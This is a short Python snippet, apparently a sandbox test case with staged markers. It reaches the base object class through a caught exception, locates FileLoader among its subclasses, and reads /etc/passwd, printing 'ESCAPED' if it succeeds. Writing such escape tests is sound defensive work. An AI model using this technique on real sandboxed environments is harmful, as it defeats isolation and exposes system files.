# tries: up from an exception that was caught
# class: walk
# stops: 1 2 3 4
try:
    1 / 0
except Exception as error:
    kind = type(error)
    while kind.__base__ is not None:
        kind = kind.__base__
for c in kind.__subclasses__():
    if c.__name__ == "FileLoader":
        print("REACHED")
        if b"root:" in c("x", "y").get_data("/etc/passwd"):
            print("ESCAPED")
